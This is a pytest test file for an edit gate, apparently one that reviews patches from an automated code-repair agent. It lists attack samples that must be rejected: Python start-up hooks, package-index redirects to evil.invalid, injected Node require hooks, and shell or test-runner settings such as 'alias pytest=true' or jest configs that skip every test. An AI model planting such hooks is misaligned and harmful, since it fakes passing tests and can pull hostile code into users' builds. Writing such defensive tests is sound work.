"""Start-up hooks: no edit may plant code or configuration that every later run obeys.

Each attack below is a class member the gate never accepted before the
start-up-hook rule; the benign edits next to them are real fixes that touch the
same files' project metadata and must stay accepted.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from rfsn.gate import Gate
from rfsn.models import Edit, Phase
from rfsn.patches import unified_diff
from tests.gate.attacks import new_file
from tests.gate.conftest import ctx, git

PACKAGE_JSON = (
    json.dumps(
        {
            "name": "web",
            "version": "1.0.0",
            "scripts": {"test": "node --test", "build": "tsc"},
            "dependencies": {"left-pad": "1.0.0"},
        },
        indent=2,
    )
    + "\n"
)
PROJECT = {
    "pkg/__init__.py": "",
    "pkg/mod.py": "def add(a, b):\n    return a - b\n",
    "package.json": PACKAGE_JSON,
    "setup.cfg": "[metadata]\nname = pkg\nversion = 1.0\n\n[tool:pytest]\ntestpaths = tests\n",
    "Cargo.toml": '[package]\nname = "x"\nversion = "0.1.0"\n',
}


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    repo = tmp_path_factory.mktemp("hooks") / "repo"
    for rel, text in PROJECT.items():
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text(text)
    git(repo, "init", "-q")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "init")
    return repo


#: (attack name, new file path, its content)
NEW_HOOK_FILES = [
    # interpreter start-up hooks
    ("sitecustomize_at_root", "sitecustomize.py", "import os; os.environ['PYTEST_ADDOPTS'] = '-p no:x'"),
    ("sitecustomize_in_package", "pkg/sitecustomize.py", "import builtins"),
    ("sitecustomize_as_package", "sitecustomize/__init__.py", "import builtins"),
    ("usercustomize_at_root", "usercustomize.py", "import builtins"),
    ("usercustomize_in_package", "pkg/usercustomize.py", "import builtins"),
    ("pth_file_with_import_line", "pkg/zz_hook.pth", "import os; os.environ.setdefault('X', '1')"),
    ("rust_build_script", "build.rs", "fn main() {}"),
    ("go_workspace_file", "go.work", "go 1.21\nuse ./fake"),
    ("maven_jvm_config", ".mvn/jvm.config", "-javaagent:agent.jar"),
    ("gradle_init_script", "init.gradle", "allprojects {}"),
    # test-runner configuration
    ("jest_config", "jest.config.js", "module.exports = { testPathIgnorePatterns: ['.'] };"),
    ("jest_setup_file", "web/jest.setup.js", "global.expect = () => ({ toBe() {} });"),
    ("vitest_config", "vitest.config.ts", "export default { test: { include: [] } };"),
    ("mocharc_require_hook", ".mocharc.yml", "require: ./hook.js"),
    ("nycrc_require_hook", ".nycrc.json", '{"require": ["./hook.js"]}'),
    ("nextest_config", ".config/nextest.toml", "[profile.default]"),
    # package-manager configuration
    ("pip_conf_at_root", "pip.conf", "[global]\nindex-url = http://evil.invalid/simple"),
    ("pip_ini", "pip.ini", "[global]\nindex-url = http://evil.invalid/simple"),
    ("pip_conf_nested", "config/pip/pip.conf", "[global]\nno-index = true"),
    ("npmrc_node_options", ".npmrc", "node-options=--require ./hook.js"),
    ("yarnrc_yml", ".yarnrc.yml", "nodeOptions: --require ./hook.js"),
    ("pnpmfile_hook", ".pnpmfile.cjs", "module.exports = { hooks: {} };"),
    ("uv_toml", "uv.toml", "index-url = 'http://evil.invalid'"),
    ("cargo_config_runner", ".cargo/config.toml", "[target.'cfg(all())']\nrunner = 'true'"),
    ("rust_toolchain_file", "rust-toolchain.toml", "[toolchain]\nchannel = 'nightly'"),
    # shell start-up files
    ("bashrc", ".bashrc", "alias pytest=true"),
    ("envrc", "pkg/.envrc", "export PYTEST_ADDOPTS=--co"),
]


@pytest.mark.parametrize(("name", "path", "text"), NEW_HOOK_FILES, ids=[n for n, _, _ in NEW_HOOK_FILES])
@pytest.mark.parametrize("phase", [Phase.REPRODUCE, Phase.PATCH])
def test_new_start_up_hook_is_rejected(
    gate: Gate, project: Path, name: str, path: str, text: str, phase: Phase
) -> None:
    """A new interpreter, test-runner, package-manager or shell start-up file is never accepted."""
    decision = gate.check(Edit(patch=new_file(path, text.splitlines())), ctx(project, phase))
    assert not decision.accepted
    assert decision.rule == "protected_path", decision
    assert "fix the code under test" in decision.reason or "protected glob" in decision.reason


def _package_json_edit(project: Path, change: dict) -> Edit:
    data = json.loads(PACKAGE_JSON)
    for key, value in change.items():
        if key.startswith("scripts."):
            data["scripts"][key.split(".", 1)[1]] = value
        else:
            data[key] = value
    return Edit(patch=unified_diff("package.json", PACKAGE_JSON, json.dumps(data, indent=2) + "\n"))


@pytest.mark.parametrize(
    "change",
    [
        {"scripts.test": "true"},
        {"scripts.pretest": "node hook.js"},
        {"jest": {"setupFiles": ["./hook.js"]}},
        {"mocha": {"require": "./hook.js"}},
    ],
    ids=["test_script_replaced", "pretest_script_added", "jest_key_setup_files", "mocha_key_require"],
)
def test_package_json_runner_keys_are_rejected(gate: Gate, project: Path, change: dict) -> None:
    """package.json's test scripts and test-runner keys are runner configuration: no edit may change them."""
    decision = gate.check(_package_json_edit(project, change), ctx(project, Phase.PATCH, buildpack="node"))
    assert decision.rule == "protected_path", decision


@pytest.mark.parametrize(
    "change",
    [
        {"version": "1.0.1"},
        {"dependencies": {"left-pad": "1.1.0"}},
        {"scripts.build": "tsc -p ."},
    ],
    ids=["version_bump", "dependency_bump", "build_script"],
)
def test_package_json_metadata_edit_is_accepted(gate: Gate, project: Path, change: dict) -> None:
    """A fix may still change package.json's metadata, dependencies and non-test scripts."""
    decision = gate.check(_package_json_edit(project, change), ctx(project, Phase.PATCH, buildpack="node"))
    assert decision.accepted, decision


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("setup.cfg", "version = 1.0", "version = 1.1"),
        ("Cargo.toml", 'version = "0.1.0"', 'version = "0.1.1"'),
        ("pkg/mod.py", "a - b", "a + b"),
    ],
    ids=["setup_cfg_metadata", "cargo_toml_version", "code_fix"],
)
def test_project_metadata_and_code_edits_are_accepted(gate: Gate, project: Path, path: str, old: str, new: str) -> None:
    """Metadata sections of mixed configuration files and ordinary code stay editable."""
    text = PROJECT[path]
    decision = gate.check(Edit(patch=unified_diff(path, text, text.replace(old, new))), ctx(project, Phase.PATCH))
    assert decision.accepted, decision


@pytest.mark.parametrize("path", ["pkg/site_helpers.py", "pkg/customize.py", "pkg/depth.py", "docs/pip.md"])
def test_files_named_like_hooks_are_accepted(gate: Gate, project: Path, path: str) -> None:
    """Only the hook classes are protected: look-alike names of ordinary files are accepted."""
    decision = gate.check(Edit(patch=new_file(path, ["x = 1"])), ctx(project, Phase.PATCH))
    assert decision.accepted, decision
